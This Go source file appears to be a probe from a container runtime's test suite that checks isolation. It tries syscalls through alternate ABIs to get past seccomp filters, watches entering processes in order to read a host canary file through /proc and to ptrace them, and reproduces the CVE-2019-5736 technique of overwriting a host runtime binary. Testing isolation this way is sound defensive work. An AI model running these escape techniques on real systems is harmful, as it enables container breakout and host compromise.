package main

import (
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/berth-runtime/berth/test/bundle/seen"
)

func bytePointer(b *byte) unsafe.Pointer { return unsafe.Pointer(b) }

// int80 makes a system call of 32-bit x86.
func int80(nr, a, b, c uintptr) uintptr

// calls makes a directory in each of the machine's ways and tells which of them did.
func calls(way string) {
	// a filter may kill this thread only
	time.AfterFunc(3*time.Second, func() { fmt.Println("silent"); os.Exit(7) })
	// below 4 GiB, where a 32-bit call can see it
	mem, err := unix.Mmap(-1, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANON|unix.MAP_32BIT)
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	p := uintptr(unsafe.Pointer(&mem[0]))
	copy(mem, "/made-"+way+"\x00")
	switch way {
	case "x86-64":
		unix.RawSyscall(unix.SYS_MKDIR, p, 0o755, 0)
	case "x86":
		int80(39, p, 0o755, 0)
	case "x32":
		unix.RawSyscall(0x40000000|unix.SYS_MKDIR, p, 0o755, 0)
	case "x86-at": // the call's newer brother
		dir := int32(unix.AT_FDCWD)
		int80(296, uintptr(uint32(dir)), p, 0o755)
	}
	if _, err := os.Stat("/made-" + way); err == nil {
		fmt.Println("made")
		return
	}
	fmt.Println("refused")
}

// watch waits for processes that enter this PID namespace and takes from them whatever it can get: their root, their
// working directory, their descriptors, control of them. What it got goes to standard output, a line each.
func watch(canary string) {
	runtime.LockOSThread() // a tracer is a thread
	self := strconv.Itoa(os.Getpid())
	told := map[string]bool{}
	tell := func(what string) {
		if !told[what] {
			told[what] = true
			fmt.Println(what)
		}
	}
	fmt.Println("up")
	for end := time.Now().Add(time.Minute); time.Now().Before(end); {
		dir, err := os.Open("/proc")
		if err != nil {
			return
		}
		names, _ := dir.Readdirnames(-1)
		dir.Close()
		for _, pid := range names {
			if pid[0] < '0' || pid[0] > '9' || pid == self || pid == "1" {
				continue
			}
			for range 40 {
				take(pid, canary, tell)
			}
		}
	}
}

func take(pid, canary string, tell func(string)) {
	base := "/proc/" + pid
	for _, way := range []string{"/root", "/cwd"} {
		if b, err := os.ReadFile(base + way + canary); err == nil {
			tell("host file through " + way + ": " + string(b))
		}
	}
	fds, err := os.ReadDir(base + "/fd")
	if err == nil {
		for _, f := range fds {
			if to, err := os.Readlink(base + "/fd/" + f.Name()); err == nil && f.Name() > "2" {
				tell("descriptor " + strings.SplitN(to, ":", 2)[0])
			}
		}
	}
	n, _ := strconv.Atoi(pid)
	if comm := strings.Join(seen.Lines(base+"/comm"), ""); comm == "probe" || comm == "" {
		return // the container's own program by now
	}
	if unix.PtraceAttach(n) == nil {
		// stopped now; one that has become the container's program meanwhile is fair game
		unix.Wait4(n, nil, unix.WALL, nil)
		if comm := strings.Join(seen.Lines(base+"/comm"), ""); comm != "probe" {
			tell("ptrace of " + comm)
		}
		unix.PtraceDetach(n)
		// What was waited for may have been the stop of an exec; the attach's own would come now and last (ptrace(2)).
		unix.Kill(n, unix.SIGCONT)
	}
}

// overwrite waits for processes whose program is not ours, keeps a descriptor of their program, and writes through it
// as soon as nothing executes it any more (CVE-2019-5736).
func overwrite() {
	mine, _ := os.Stat("/proc/self/exe")
	var held []int
	fmt.Println("up")
	for end := time.Now().Add(time.Minute); time.Now().Before(end); {
		names, err := os.ReadDir("/proc")
		if err != nil {
			return
		}
		for _, e := range names {
			if e.Name()[0] < '0' || e.Name()[0] > '9' {
				continue
			}
			exe := "/proc/" + e.Name() + "/exe"
			if st, err := os.Stat(exe); err != nil || os.SameFile(st, mine) {
				continue
			}
			if fd, err := unix.Open(exe, unix.O_RDONLY, 0); err == nil && len(held) < 100 {
				held = append(held, fd)
			}
		}
		for _, fd := range held {
			if w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY, 0); err == nil {
				unix.Write(w, []byte("#!/bin/sh\n"))
				unix.Close(w)
				fmt.Println("written")
				return
			}
		}
	}
}
